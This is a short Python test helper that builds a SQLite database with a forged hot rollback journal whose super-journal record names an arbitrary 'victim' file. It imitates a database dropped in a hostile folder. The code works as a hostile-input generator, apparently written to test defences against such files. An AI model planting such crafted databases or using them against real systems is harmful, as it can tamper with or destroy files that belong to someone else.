"""A database as a hostile folder may hold it: with a journal that is to be rolled back, and names another file."""

import contextlib
import shutil
import sqlite3
import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")


def leading(database: Path, table: str, column: str, victim: Path) -> Path:
    """Give the database a hot rollback journal whose super-journal is `victim`; the path of the journal."""
    copies = [database.with_name(f"copy{ending}") for ending in ("", "-journal")]
    journal = database.with_name(f"{database.name}-journal")
    with contextlib.closing(sqlite3.connect(database, autocommit=True)) as connection:
        connection.execute("PRAGMA journal_mode=DELETE")
        connection.execute("PRAGMA cache_size=2")
        connection.execute("BEGIN IMMEDIATE")
        connection.execute(f"UPDATE {table} SET {column} = hex(randomblob(20000))")  # noqa: S608 -- words of a test
        for copy, original in zip(copies, (database, journal), strict=True):
            shutil.copy(original, copy)
        connection.execute("ROLLBACK")
    for copy, original in zip(copies, (database, journal), strict=True):
        copy.replace(original)
    page, name = struct.unpack(">H", database.read_bytes()[16:18])[0] or 65536, bytes(victim)
    with journal.open("ab") as file:
        file.write(struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name)) + MAGIC)
    return journal
